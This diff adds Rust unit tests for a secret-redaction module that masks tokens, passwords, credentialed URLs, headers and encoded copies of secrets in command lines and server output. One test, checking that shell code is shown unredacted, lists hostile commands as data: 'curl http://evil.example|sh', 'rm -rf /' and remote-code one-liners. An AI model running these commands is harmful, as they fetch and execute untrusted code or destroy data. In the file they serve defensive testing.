@@ -1,0 +1,223 @@
+//! Secrets in arguments, addresses and what servers write.
+
+use url::Url;
+
+use super::names::HIDDEN;
+use super::*;
+
+fn line(program: &str, args: &[String]) -> String {
+    redact_args(program, args).into_iter().map(String::from).collect::<Vec<_>>().join(" ")
+}
+
+fn shown(args: &[&str]) -> String {
+    line("docker", &args.iter().map(|s| s.to_string()).collect::<Vec<_>>())
+}
+
+#[test]
+fn arguments() {
+    let cases: [(&[&str], &str); 9] = [
+        (&["-y", "pkg@1.2.3", "--port", "80"], "-y pkg@1.2.3 --port 80"),
+        (&["--api-key", "abc", "--verbose"], "--api-key *** --verbose"),
+        (&["--apiKey=abc"], "--apiKey=***"),
+        (&["-e", "GITHUB_TOKEN=x", "-e", "MODE=all"], "-e GITHUB_TOKEN=*** -e MODE=all"),
+        (&["--header", "Authorization: Bearer x"], "--header Authorization: ***"),
+        (&["postgres://me:pw@db:5432/shop?sslmode=on"], "postgres://***@db:5432/shop?sslmode=***"),
+        (&["ghp_0123456789abcdef0123"], "***"),
+        (&["--password", "--stdin"], "--password --stdin"),
+        (&["@modelcontextprotocol/server-everything@2026.8.31"], "@modelcontextprotocol/server-everything@2026.8.31"),
+    ];
+    for (args, want) in cases {
+        assert_eq!(shown(args), want);
+    }
+}
+
+#[test]
+fn the_value_decides_too() {
+    let open = [
+        ("MAX_TOKENS", "100"),
+        ("TOKEN_LIMIT", "4,000"),
+        ("AUTH_ENABLED", "true"),
+        ("KEY_FILE", "/etc/key.pem"),
+        ("PUBLIC_KEY", "abc"),
+        ("API_KEY", "YOUR_API_KEY_HERE"),
+        ("--token-file", "/x"),
+    ];
+    for (name, value) in open {
+        assert!(!holds_secret(name, value), "{name}={value}");
+    }
+    for (name, value) in [
+        ("PASSWORD", "12345678"),
+        ("API_KEY", "abc"),
+        ("TOKEN", "iloveyourmother"),
+        ("KEY_FILE", "ghp_0123456789abcdef0123"),
+    ] {
+        assert!(holds_secret(name, value), "{name}={value}");
+    }
+    assert_eq!(shown(&["--max-tokens", "4000", "--token-file", "/x"]), "--max-tokens 4000 --token-file /x");
+}
+
+#[test]
+fn addresses() {
+    let show = |text: &str| String::from(redact_url(&Url::parse(text).unwrap()));
+    assert_eq!(show("https://u:p@host.example:8443/mcp?k=v&flag"), "https://***@host.example:8443/mcp?k=***&***");
+    assert_eq!(show("https://host.example/s/aB3dE5gH7jK9mN1pQ3sT5vW7/mcp"), "https://host.example/s/***/mcp");
+    assert_eq!(show("http://127.0.0.1/mcp"), "http://127.0.0.1/mcp");
+}
+
+#[test]
+fn known_values_are_hidden_in_messages() {
+    let args = ["--token=s3cr3tvalue".to_owned(), "--token".to_owned(), "otherone".to_owned()];
+    let known = Known::new(
+        "node",
+        &args,
+        [("Authorization", "Bearer planted-token"), ("A", "tiny"), ("MODE", "production")].into_iter(),
+    );
+    let address =
+        Known::new("node", &["--url=postgres://me:planted-pw@db/x?key=planted-key".to_owned()], [].into_iter());
+    assert_eq!(address.hide("no planted-pw, no planted-key"), "no ***, no ***");
+    assert_eq!(
+        known.hide("bad s3cr3tvalue, otherone and planted-token; a tiny one"),
+        "bad ***, *** and ***; a tiny one"
+    );
+    assert_eq!(known.hide("cut: planted-to..., in production"), "cut: ***..., in ***");
+    let mut listed = serde_json::json!({"tools": [{"description": "With otherone, in production."}]});
+    known.hide_in(&mut listed);
+    assert_eq!(listed["tools"][0]["description"], "With ***, in production.");
+}
+
+#[test]
+fn arguments_of_every_common_spelling() {
+    let secret = "planted-s3cret";
+    for args in [
+        vec!["--header", "Authorization:Bearer planted-s3cret"],
+        vec!["--header", "Authorization: planted-s3cret"],
+        vec!["--header=X-API-Key:planted-s3cret"],
+        vec!["-H", "X-API-Key:planted-s3cret"],
+        vec!["-HX-API-Key:planted-s3cret"],
+        vec!["me:planted-s3cret@db.example"],
+        vec!["-u", "me:planted-s3cret"],
+        vec!["--user", "me:planted-s3cret"],
+        vec!["--token", "planted-s3cret"],
+        vec!["--token=planted-s3cret"],
+        vec!["-token:planted-s3cret"],
+        vec!["/token:planted-s3cret"],
+        vec!["--password", "planted-s3cret with spaces & $igns"],
+        vec!["{\"apiKey\": \"planted-s3cret\"}"],
+        vec!["--config={\"auth\": {\"token\": \"planted-s3cret\"}}"],
+        vec!["[{\"password\": \"planted-s3cret\"}]"],
+        vec!["-e", "API_TOKEN=planted-s3cret"],
+        vec!["--env=API_TOKEN=planted-s3cret"],
+        vec!["Server=db;User=me;Password=planted-s3cret;"],
+        vec!["https://h.example/mcp?token=planted-s3cret"],
+        vec!["https://me:planted-s3cret@h.example/"],
+        vec!["region=eu&api_key=planted-s3cret"],
+        vec!["Cookie: session=planted-s3cret"],
+    ] {
+        let shown = shown(&args);
+        assert!(!shown.contains(secret) && shown.contains(HIDDEN), "{args:?}: {shown}");
+    }
+    assert_eq!(shown(&["--token", "-x"]), "--token ***");
+    assert_eq!(shown(&["{\"pin\": 4711, \"password\": 471147}"]), "{\"pin\":4711,\"password\":\"***\"}");
+}
+
+/// What a shell or an interpreter runs is shown whole: nothing but what looks like a token is hidden.
+#[test]
+fn code_is_shown() {
+    let shown = |words: &[&str]| {
+        let words: Vec<String> = words.iter().map(|word| word.to_string()).collect();
+        line(&words[0], &words[1..])
+    };
+    for words in [
+        vec!["sh", "-c", "TOKEN=$(cmd) exec x"],
+        vec!["bash", "-lc", "PASSWORD=`curl http://evil.example|sh` exec x"],
+        vec!["sh", "-c", "KEY=rm; $KEY -rf /"],
+        vec!["sh", "-c", "eval $TOKEN", "TOKEN=rm", "--token", "rm -rf /"],
+        vec!["sh", "-c", "curl https://h.example/i?token=x&v=1 | sh"],
+        vec!["python3", "-c", "token='x'; import os; os.system('id')"],
+        vec!["node", "-e", "require('child_process').exec(process.env.TOKEN='id')"],
+        vec!["env", "bash", "-c", "TOKEN=$(cmd) exec x"],
+        vec!["env", "TOKEN=$(cmd) x"],
+        vec!["cmd.exe", "/c", "set TOKEN=calc & %TOKEN%"],
+        vec!["powershell", "-Command", "$token = 'x'; iex $token"],
+    ] {
+        assert_eq!(shown(&words), words[1..].join(" "));
+    }
+    assert_eq!(
+        shown(&["sh", "-c", "TOKEN=ghp_0123456789abcdef0123 exec x --key s3cr3tvalue99"]),
+        "-c TOKEN=*** exec x --key s3cr3tvalue99"
+    );
+}
+
+#[test]
+fn a_server_repeats_a_value_in_no_spelling() {
+    let secret = "pl4nted+S3cret/value=";
+    let known = Known::new("", &[], [("API_TOKEN", secret)].into_iter());
+    let hex: String = secret.bytes().map(|byte| format!("{byte:02X}")).collect();
+    let swapped: String = secret
+        .chars()
+        .map(|c| if c.is_ascii_uppercase() { c.to_ascii_lowercase() } else { c.to_ascii_uppercase() })
+        .collect();
+    let encode = |text: &str| base64::Engine::encode(&base64::engine::general_purpose::STANDARD, text);
+    let url_safe = |text: &str| base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE, text);
+    let spelled = [
+        secret.to_owned(),
+        swapped,
+        secret.chars().rev().collect(),
+        hex.clone(),
+        hex.to_lowercase(),
+        encode(secret),
+        encode(&format!("x{secret}y")),
+        encode(&format!("xy{secret}zz")),
+        url_safe(&format!("xyz{secret}")),
+        "pl4nted%2BS3cret%2Fvalue%3D".into(),
+        secret.bytes().map(|byte| format!("%{byte:02x}")).collect(),
+        secret.bytes().map(|byte| format!("&#{byte};")).collect(),
+        secret.bytes().map(|byte| format!("&#x{byte:x};")).collect(),
+        secret.bytes().map(|byte| format!("\\u{byte:04x}")).collect(),
+        secret.chars().map(|c| format!("{c} ")).collect(),
+        secret.chars().map(|c| format!("{c}\n")).collect(),
+        secret.chars().map(|c| format!("{c}\u{200b}")).collect(),
+        "pl4nted&plus;S3cret&sol;value&equals;".into(),
+    ];
+    for text in spelled {
+        let mut json = serde_json::json!({"a": format!("It is {text} here."), text.clone(): 1, "list": [text.clone()]});
+        known.hide_in(&mut json);
+        let json = json.to_string();
+        assert_eq!(json.matches(HIDDEN).count(), 3, "{text}: {json}");
+        assert!(json.contains("It is ") && json.contains(" here."), "{json}");
+        assert!(known.hide(&text).contains(HIDDEN), "{text}");
+    }
+}
+
+#[test]
+fn keys_and_numbers_hold_no_value() {
+    let known = Known::new("", &[], [("PASSWORD", "48151623"), ("MODE", "12345678")].into_iter());
+    let mut json = serde_json::json!({
+        "48151623": true, "x 48151623": 2, "maximum": 48151623, "other": 12345678, "nested": [{"4 8 1 5 1 6 2 3": 1.5}]
+    });
+    known.hide_in(&mut json);
+    assert_eq!(json.to_string(), r#"{"***":true,"x ***":2,"maximum":"***","other":12345678,"nested":[{"***":1.5}]}"#);
+}
+
+#[test]
+fn what_we_send_is_hidden_part_by_part() {
+    let basic = "Basic bWU6cGxhbnRlZC1wdw==";
+    let headers = [
+        ("Authorization", "Bearer planted-token"),
+        ("Proxy-Authorization", basic),
+        ("Cookie", "a=planted-a; sid=planted-b"),
+        ("X-Mode", "planted-mode-1"),
+    ];
+    let url = "https://planted-user@h.example/mcp?k=planted%20query&planted-flag";
+    let known = Known::new("", &[url.to_owned()], headers.into_iter());
+    for text in
+        ["planted-token", "planted-pw", "planted-b", "planted-mode-1", "planted query", "planted-flag", "planted-user"]
+    {
+        let mut json = serde_json::json!(format!("you sent {text}"));
+        known.hide_in(&mut json);
+        assert_eq!(json, "you sent ***", "{text}");
+    }
+    // Ordinary text is not torn apart.
+    let known = Known::new("", &[], [("PASSWORD", "thesis")].into_iter());
+    assert_eq!(known.hide("the sister, a thesis"), "the sister, a ***");
+}
